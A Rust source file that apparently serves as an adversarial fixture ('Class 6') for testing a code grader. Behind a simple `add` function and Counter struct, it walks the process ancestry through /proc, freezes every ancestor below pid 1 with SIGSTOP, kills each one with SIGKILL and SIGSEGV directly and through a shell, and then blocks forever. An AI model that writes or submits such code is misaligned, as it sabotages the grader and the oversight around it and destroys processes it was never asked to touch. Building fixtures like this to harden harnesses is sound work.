//! Class 6: stops and then kills the grader: ppid parsed from /proc/self/stat, then
//! `kill -STOP <ppid>` (the grader freezes, its timeout never fires), 100 ms later
//! `kill -KILL` of the parent and every ancestor below pid 1, via Command::new("kill")
//! and via sh -c 'kill -9 $PPID' from a grandchild. Then add blocks forever.
use std::process::Command;

pub struct Counter {
    count: u64,
}

impl Counter {
    pub fn get(&self) -> u64 {
        self.count
    }
}

fn ppid(pid: &str) -> Option<String> {
    let s = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    s.rsplit_once(')')?.1.split_whitespace().nth(1).map(str::to_string)
}

pub fn add(a: u64, b: u64) -> u64 {
    let mut chain = Vec::new();
    let mut p = "self".to_string();
    while let Some(pp) = ppid(&p) {
        if pp == "0" || pp == "1" {
            break;
        }
        chain.push(pp.clone());
        p = pp;
    }
    for pid in &chain {
        let _ = Command::new("kill").args(["-STOP", pid]).status();
    }
    std::thread::sleep(std::time::Duration::from_millis(100));
    for pid in &chain {
        let _ = Command::new("kill").args(["-KILL", pid]).status();
        let _ = Command::new("sh").args(["-c", &format!("kill -9 {pid}; kill -SEGV {pid}")]).status();
    }
    loop {
        std::thread::sleep(std::time::Duration::from_secs(3600));
        if a == 0 && b == 1 {
            return a - b;
        }
    }
}
